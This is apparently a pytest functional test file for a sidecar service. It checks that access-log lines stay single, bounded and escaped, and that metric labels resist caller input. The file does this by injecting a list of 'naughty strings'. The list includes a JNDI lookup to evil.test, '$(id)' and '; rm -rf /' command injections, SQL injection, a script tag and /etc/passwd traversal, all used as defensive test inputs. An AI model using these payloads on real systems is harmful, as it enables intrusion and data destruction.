"""Whatever a caller writes, operators read lines and series.  Rows O1, O2."""

from __future__ import annotations

import asyncio
import json
import re
from urllib.parse import quote

import pytest

from tests.functional.conftest import World
from tests.functional.kit import Sidecar, event, function, tools_call
from tests.functional.wire import JSON, answers, request

NAUGHTY = [
    # Ends of lines, and what some readers take for one.
    "a\r\nb", "\r\n\r\n", "\n{\"event\":\"forged\"}\n", "\x85", "\u2028", "\u2029",
    "\x0b\x0c", "\x1c\x1d\x1e",
    # Commands to terminals.
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b2J", "\x90q\x9c", "\x7f\x08\x08",
    "\x1b[2J\x1b[H",
    # Ends of strings and structures.
    '"', '\\', '\\"', '"}', '","level":"error', "'", "''", "`id`", "{}", "[]", "\\u0000",
    "\x00", "\ud7ff",
    # Templates, formats, commands.
    "{{call_id}}", "{{7*7}}", "${jndi:ldap://evil.test/x}", "%s%n%x", "{0.__class__}",
    "$(id)", "; rm -rf /",
    "' OR 1=1 --", "<script>alert(1)</script>", "../../etc/passwd", "..\\..\\x",
    "file:///etc/passwd",
    # Numbers and words that something takes for more.
    "null", "undefined", "NaN", "true", "-0", "1e309", "0x7f", "=1+1", "@SUM(A1)", "NULL",
    "nil",
    # Unicode.
    "\u202eright to left", "\u2066\u2069", "\u200b\u200c\u200d", "\ufeffbom",
    "Z\u0351\u036b\u0343a\u0362\u035elgo",
    "ｆｕｌｌ", "田中さん", "😀👩\u200d👧", "ﷺ", "İıſK", "\ufffe\uffff", "\U000e0001",
    "Ω≈ç√∫", "\u0300", "\ufffc",
    # Labels of metrics.
    'x{a="b"} 1', "# HELP x", "a\\nb 1", "a,b=c", "le=\"+Inf\"",
    # Lengths.
    "", " ", "x" * 300, "x" * 10_000, "\n" * 10_000, "\u2028" * 5_000, "😀" * 3_000,
    "\\" * 10_000,
]  # fmt: skip
"""Of the families that the Big List of Naughty Strings has, and some of our own."""

LONGEST = 16_384
"""Bytes of a line: call ID, tool, event and path are capped, and an escape takes six."""


async def lines_of(sidecar: Sidecar, count: int) -> list[bytes]:
    """Every line of the access log, once there are so many."""
    await sidecar.lines(count)
    return (sidecar.folder / "access.log").read_bytes().split(b"\n")[:-1]


def raw_get(text: str) -> bytes:
    """Whatever of it can stand in a request line at all."""
    target = b"/" + re.sub(rb"[\x00-\x20\x7f]", b"_", text.encode("utf-8", "surrogatepass"))
    return b"GET %b HTTP/1.1\r\nHost: a\r\n\r\n" % target[:8000]


@pytest.mark.row("O1")
async def test_whatever_a_caller_writes_an_exchange_is_one_bounded_line(world: World) -> None:
    """As call ID, tool, event, agent, header, query, and path, escaped and raw."""
    sidecar = await world.sidecar(passthrough="webhook")
    sent = 0
    for text in NAUGHTY:
        agent = b"User-Agent: " + re.sub(rb"[\x00-\x1f\x7f]", b"_", text.encode())[:8000]
        escaped = quote(text, safe="")
        method = re.sub(rb"\s", b"_", text.encode())[:4000]
        plays: list[bytes] = [
            request("POST", "/retell", function(text, text), agent),
            request("POST", "/retell", event(text, text), agent),
            request("POST", f"/mcp/{escaped[:4000]}", tools_call(text), agent),
            request("GET", f"/{escaped[:4000]}?call_id={escaped[:3000]}"),
            raw_get(text),
            method + b" /retell HTTP/1.1\r\nHost: a\r\n\r\n",
        ]
        for raw in plays:
            client = await sidecar.connect()
            await client.ask(raw)
            await client.close()
            sent += 1

    lines = await lines_of(sidecar, sent)

    assert len(lines) == sent
    for line in lines:
        fields = json.loads(line)
        assert fields["event"] == "exchange_ended"
        assert len(line) <= LONGEST, fields["path"]
        assert len(line.decode().splitlines()) == 1
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ufeff]", line.decode())
    for told in sidecar.log.splitlines():
        assert json.loads(told)["event"] not in ("forged", "exchange_crashed")


@pytest.mark.row("O1", "O2")
async def test_whatever_a_caller_writes_is_no_label(world: World) -> None:
    sidecar = await world.sidecar()
    before = {(s.name, *sorted(s.labels.items())) for s in (await sidecar.metrics()).samples}
    world.webhook.play = answers(b"{}", JSON)
    for text in NAUGHTY:
        await sidecar.post("/retell", function(text, text))
        await sidecar.post("/retell", event(text, text))

    metrics = await sidecar.metrics()

    values = {value for sample in metrics.samples for value in sample.labels.values()}
    assert not values & {text for text in NAUGHTY if text not in ("", "x", "null")}
    fresh = {(s.name, *sorted(s.labels.items())) for s in metrics.samples} - before
    assert len(fresh) < 200


@pytest.mark.row("O2")
async def test_ten_thousand_invented_tools_are_one_series(world: World) -> None:
    """Each is asked for once, by callers who do not wait for one another."""
    sidecar = await world.sidecar(split={"percent": 0})

    async def caller(number: int) -> None:
        client = await sidecar.connect()
        for turn in range(25):
            tools = range(turn * 20, turn * 20 + 20)
            bodies = [function(f"tool_{number}_{tool}", None) for tool in tools]
            await client.send(b"".join(request("POST", "/retell", body) for body in bodies))
            for _ in bodies:
                await client.answer()

    await asyncio.gather(*[caller(number) for number in range(20)])

    metrics = await sidecar.metrics()
    assert metrics.total("tool_executions_total", tool="other") == 10_000
    series = [s for s in metrics.samples if s.name == "t_tool_executions_total"]
    assert len(series) < 20
    assert b"tool_1_1" not in (await sidecar.admin("/metrics")).body
